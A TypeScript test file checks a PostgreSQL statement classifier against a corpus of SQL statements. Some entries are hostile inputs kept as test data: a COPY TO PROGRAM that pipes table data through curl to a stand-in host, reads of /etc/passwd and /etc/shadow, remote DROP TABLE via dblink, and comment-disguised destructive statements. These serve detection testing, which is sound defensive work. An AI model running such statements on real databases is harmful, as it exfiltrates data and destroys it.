import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import { STATEMENT_KINDS, type StatementClassification } from './classification.js';
import { classifyCommand, initSqlParser } from './index.js';

type Expectation = Partial<StatementClassification>;

/** Each case: a one-statement text and the fields of its classification that matter. */
const corpus: [string, Expectation][] = [
  // kinds
  ['SELECT 1', { kind: 'select', writes: false, objects: [] }],
  ['VALUES (1), (2)', { kind: 'select' }],
  ['TABLE users', { kind: 'select', objects: ['public.users'], columns_read: ['public.users.*'] }],
  ['INSERT INTO t (a) VALUES (1)', { kind: 'insert', writes: true, objects: ['public.t'] }],
  ['UPDATE t SET a = 1 WHERE id = 1', { kind: 'update', has_where: true, where_tautology: false }],
  ['DELETE FROM t', { kind: 'delete', has_where: false, writes: true }],
  [
    'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE',
    { kind: 'merge', objects: ['public.s', 'public.t'] },
  ],
  [
    'CREATE TABLE s.t (id int REFERENCES u (id))',
    { kind: 'create', objects: ['public.u', 's.t'], writes: true },
  ],
  [
    'CREATE TABLE t2 AS SELECT * FROM t',
    { kind: 'create', nested_kinds: ['select'], objects: ['public.t', 'public.t2'] },
  ],
  [
    'CREATE VIEW v AS SELECT a FROM t',
    { kind: 'create', nested_kinds: ['select'], columns_read: ['public.t.a'] },
  ],
  ['CREATE INDEX ON t (a)', { kind: 'create', objects: ['public.t'] }],
  [
    'CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$',
    { kind: 'create_function', writes: true },
  ],
  ['CREATE PROCEDURE p() LANGUAGE sql AS $$ DELETE FROM t $$', { kind: 'create_function' }],
  [
    'CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()',
    { kind: 'create_function', objects: ['public.t'] },
  ],
  ['CREATE RULE r AS ON INSERT TO t DO INSTEAD NOTHING', { kind: 'create_function' }],
  ['CREATE EXTENSION dblink', { kind: 'create_function' }],
  ['CREATE LANGUAGE plperlu', { kind: 'create_function' }],
  ['ALTER TABLE t ADD COLUMN b int', { kind: 'alter', objects: ['public.t'], writes: true }],
  ['ALTER TABLE t RENAME TO t2', { kind: 'alter', objects: ['public.t'] }],
  ["ALTER SYSTEM SET log_statement = 'none'", { kind: 'alter_system', writes: true }],
  ['DROP TABLE a, s.b CASCADE', { kind: 'drop', objects: ['public.a', 's.b'] }],
  ['DROP SCHEMA audit CASCADE', { kind: 'drop', objects: ['audit'] }],
  ['DROP DATABASE prod', { kind: 'drop' }],
  ['TRUNCATE t, s.u', { kind: 'truncate', objects: ['public.t', 's.u'], writes: true }],
  ['GRANT SELECT ON t TO bob', { kind: 'grant', objects: ['public.t'] }],
  ['GRANT SELECT ON ALL TABLES IN SCHEMA s TO bob', { kind: 'grant', objects: ['s.*'] }],
  ['GRANT admin TO bob', { kind: 'grant' }],
  ['REVOKE ALL ON t FROM bob', { kind: 'revoke', objects: ['public.t'] }],
  ["CREATE ROLE x LOGIN PASSWORD 'p'", { kind: 'role', writes: true }],
  ['CREATE USER y', { kind: 'role' }],
  ['ALTER ROLE x SUPERUSER', { kind: 'role' }],
  ['DROP ROLE x', { kind: 'role' }],
  ['ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob', { kind: 'role' }],
  ['DO $$ BEGIN EXECUTE $q$DROP TABLE t$q$; END $$', { kind: 'do', dynamic_sql: true, writes: true }],
  ['CALL p(1)', { kind: 'call', functions: ['p'], writes: true }],
  [
    'PREPARE q AS DELETE FROM t',
    { kind: 'prepare', nested_kinds: ['delete'], writes: false, objects: ['public.t'] },
  ],
  ['EXECUTE q', { kind: 'execute', dynamic_sql: true, writes: true }],
  ['DEALLOCATE q', { kind: 'deallocate', writes: false }],
  ['BEGIN', { kind: 'transaction', writes: false }],
  ['START TRANSACTION READ ONLY', { kind: 'transaction' }],
  ['COMMIT', { kind: 'transaction' }],
  ['ROLLBACK TO SAVEPOINT s1', { kind: 'transaction' }],
  ['SAVEPOINT s1', { kind: 'transaction' }],
  ['RELEASE s1', { kind: 'transaction' }],
  ["PREPARE TRANSACTION 'x'", { kind: 'transaction' }],
  ['SET search_path = evil, public', { kind: 'set', writes: false }],
  ['SET ROLE admin', { kind: 'set' }],
  ['SHOW search_path', { kind: 'show' }],
  ['RESET ALL', { kind: 'reset' }],
  ['RESET work_mem', { kind: 'reset' }],
  ['DISCARD ALL', { kind: 'discard' }],
  [
    'DECLARE c CURSOR FOR SELECT a FROM t',
    { kind: 'cursor', nested_kinds: ['select'], columns_read: ['public.t.a'] },
  ],
  ['FETCH 10 FROM c', { kind: 'cursor' }],
  ['MOVE NEXT IN c', { kind: 'cursor' }],
  ['CLOSE c', { kind: 'cursor' }],
  ['LOCK TABLE t IN ACCESS EXCLUSIVE MODE', { kind: 'lock', objects: ['public.t'], writes: false }],
  ['VACUUM FULL t', { kind: 'vacuum', objects: ['public.t'] }],
  ['ANALYZE t', { kind: 'analyze', objects: ['public.t'] }],
  ['LISTEN ch', { kind: 'listen' }],
  ["NOTIFY ch, 'x'", { kind: 'notify' }],
  ["LOAD 'auto_explain'", { kind: 'load' }],
  ['CHECKPOINT', { kind: 'other', writes: false }],
  ['REFRESH MATERIALIZED VIEW mv', { kind: 'other', writes: true, objects: ['public.mv'] }],

  // comments, case and quoting tricks
  ['/* harmless */ DrOp TABLE users', { kind: 'drop', objects: ['public.users'], text: 'DrOp TABLE users' }],
  ['-- just a select\nDELETE FROM t', { kind: 'delete', text: 'DELETE FROM t' }],
  ['SELECT 1 /* ; DROP TABLE t */', { kind: 'select', objects: [] }],
  ['DROP TABLE "Users"', { kind: 'drop', objects: ['public.Users'] }],
  ['SELECT "Email" FROM "Crm"."Users"', { objects: ['Crm.Users'], columns_read: ['Crm.Users.Email'] }],
  ['SELECT $tag$ ; DROP TABLE t; $tag$', { kind: 'select', objects: [] }],
  ['SELECT a FROM t', { columns_read: ['app.t.a'], objects: ['app.t'] }],

  // CTEs
  [
    'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d',
    { kind: 'select', writes: true, nested_kinds: ['delete'], objects: ['public.t'], has_where: false },
  ],
  [
    'WITH u AS (UPDATE t SET a = 1 WHERE id = 2 RETURNING id) SELECT id FROM u',
    { nested_kinds: ['update'], has_where: true, columns_read: ['public.t.id'] },
  ],
  [
    'WITH x AS (SELECT a FROM t) SELECT a FROM x',
    { objects: ['public.t'], columns_read: ['public.t.a'], nested_kinds: [], writes: false },
  ],
  ['WITH users AS (SELECT 1 AS id) DELETE FROM users', { objects: ['public.users'], kind: 'delete' }],
  [
    'SELECT * FROM secrets, (WITH secrets AS (SELECT 1 AS a) SELECT a FROM secrets) x',
    { objects: ['public.secrets'] },
  ],
  [
    'WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT n FROM r',
    { objects: [] },
  ],

  // WHERE and tautologies
  ['DELETE FROM t WHERE true', { has_where: true, where_tautology: true }],
  ['DELETE FROM t WHERE 1=1', { where_tautology: true }],
  ["DELETE FROM t WHERE 'a'='a'", { where_tautology: true }],
  ['DELETE FROM t WHERE id = id', { where_tautology: true }],
  ['UPDATE t SET a = 1 WHERE id = 5 OR true', { where_tautology: true }],
  ['DELETE FROM t WHERE NOT false', { where_tautology: true }],
  ['DELETE FROM t WHERE 1 IS NOT NULL', { where_tautology: true }],
  ["DELETE FROM t WHERE name LIKE '%'", { where_tautology: true }],
  ['DELETE FROM t WHERE x IS NULL OR x IS NOT NULL', { where_tautology: true }],
  ["DELETE FROM t WHERE 't'::boolean", { where_tautology: true }],
  ["DELETE FROM t WHERE 2 > 1 AND '1' = 1", { where_tautology: true }],
  ['DELETE FROM t WHERE EXISTS (SELECT 1)', { where_tautology: true }],
  ['DELETE FROM t WHERE id = 1', { has_where: true, where_tautology: false }],
  ['DELETE FROM t WHERE 1=1 AND id = 1', { where_tautology: false }],
  ['DELETE FROM t WHERE 1=0 OR id = 1', { where_tautology: false }],
  ['DELETE FROM t WHERE false', { where_tautology: false }],
  [
    'DELETE FROM t WHERE id IN (SELECT id FROM u)',
    { where_tautology: false, objects: ['public.t', 'public.u'] },
  ],
  ['SELECT * FROM t WHERE 1=1', { has_where: false, where_tautology: false }],
  ['DELETE FROM t WHERE CURRENT OF c', { has_where: true, where_tautology: false }],

  // EXPLAIN
  [
    'EXPLAIN ANALYZE DELETE FROM t',
    { kind: 'explain', explain_analyze: true, writes: true, nested_kinds: ['delete'], has_where: false },
  ],
  [
    'EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1',
    { explain_analyze: true, writes: true, nested_kinds: ['update'] },
  ],
  ['EXPLAIN DELETE FROM t', { explain_analyze: false, writes: false, nested_kinds: ['delete'] }],
  ['EXPLAIN (ANALYZE false) DELETE FROM t', { explain_analyze: false, writes: false }],
  ['EXPLAIN ANALYZE SELECT * FROM t', { explain_analyze: true, writes: false, nested_kinds: ['select'] }],

  // COPY
  [
    "COPY t TO PROGRAM 'curl -d @- evil'",
    {
      kind: 'copy',
      copy: { direction: 'to', program: true, stdio: false },
      writes: false,
      columns_read: ['public.t.*'],
    },
  ],
  ["COPY t FROM PROGRAM 'id'", { copy: { direction: 'from', program: true, stdio: false }, writes: true }],
  [
    'COPY (SELECT email FROM users) TO STDOUT',
    {
      copy: { direction: 'to', program: false, stdio: true },
      nested_kinds: ['select'],
      columns_read: ['public.users.email'],
    },
  ],
  [
    'COPY t (a, b) FROM STDIN',
    { copy: { direction: 'from', program: false, stdio: true }, columns_read: [], writes: true },
  ],
  [
    "COPY t (a) TO '/tmp/out'",
    { copy: { direction: 'to', program: false, stdio: false }, columns_read: ['public.t.a'] },
  ],

  // server files, dynamic SQL, writing functions
  ["SELECT pg_read_file('/etc/passwd')", { functions: ['pg_read_file'], writes: false }],
  ["SELECT * FROM pg_ls_dir('.')", { functions: ['pg_ls_dir'] }],
  ["SELECT pg_catalog.lo_import('/etc/shadow')", { functions: ['pg_catalog.lo_import'], writes: true }],
  ["SELECT lo_export(16400, '/tmp/x')", { functions: ['lo_export'], writes: true }],
  ["SELECT dblink_exec('host=x', 'DROP TABLE t')", { dynamic_sql: true, writes: true }],
  ["SELECT query_to_xml('select * from secrets', true, true, '')", { dynamic_sql: true }],
  ["SELECT nextval('seq')", { writes: true }],

  // SELECT variants
  [
    'SELECT * INTO backup FROM users',
    { kind: 'select', writes: true, nested_kinds: ['create'], objects: ['public.backup', 'public.users'] },
  ],
  ['SELECT id FROM t FOR UPDATE', { kind: 'select', writes: false }],
  ['SELECT count(*) FROM t', { functions: ['count'], columns_read: [] }],
  [
    'INSERT INTO t SELECT a FROM u ON CONFLICT (a) DO UPDATE SET b = excluded.b WHERE t.c > 0',
    { columns_read: ['public.t.c', 'public.u.a'] },
  ],
];

/** Cases run with a non-default schema; everything else uses "public". */
const withSchema: Record<string, string> = { 'SELECT a FROM t': 'app' };

describe('classifyCommand corpus', () => {
  before(() => initSqlParser());

  for (const [sql, expected] of corpus) {
    it(sql.replace(/\s+/g, ' '), () => {
      const result = classifyCommand(sql, { defaultSchema: withSchema[sql] });
      assert.equal(result.statements.length, 1, 'one statement');
      const statement = result.statements[0]!;
      const actual = Object.fromEntries(
        Object.keys(expected).map((k) => [k, statement[k as keyof StatementClassification]]),
      );
      assert.deepEqual(actual, expected);
    });
  }

  it('covers every statement kind', () => {
    const kinds = new Set(corpus.map(([sql]) => classifyCommand(sql).statements[0]!.kind));
    // 'unparseable' comes from text the parser rejects, covered by its own test.
    for (const kind of STATEMENT_KINDS.filter((k) => k !== 'unparseable')) {
      assert.ok(kinds.has(kind), kind);
    }
  });
});
